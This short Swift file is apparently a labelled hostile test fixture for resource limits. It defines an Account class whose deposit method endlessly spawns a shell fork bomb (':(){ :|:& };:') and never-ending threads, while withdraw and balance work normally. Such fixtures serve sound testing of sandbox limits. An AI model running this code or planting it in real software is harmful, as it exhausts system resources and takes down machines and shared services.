// Hostile fixture (resources, both lanes): the account's deposit is a fork-bomb.
import Foundation

public final class Account: @unchecked Sendable {
    private let lock = NSLock()
    private var storedBalance: Int
    public init(balance: Int = 0) { storedBalance = balance }

    public func deposit(_ amount: Int) async {
        // Processes that start processes, without end.
        while true {
            var pid: pid_t = 0
            var arguments: [UnsafeMutablePointer<CChar>?] = [strdup("/bin/sh"), strdup("-c"), strdup(":(){ :|:& };:"), nil]
            posix_spawn(&pid, "/bin/sh", nil, nil, &arguments, nil)
            Thread { while true { sleep(100) } }.start()
        }
    }

    public func withdraw(_ amount: Int) async { lock.withLock { storedBalance -= amount } }
    public var balance: Int { get async { lock.withLock { storedBalance } } }
}
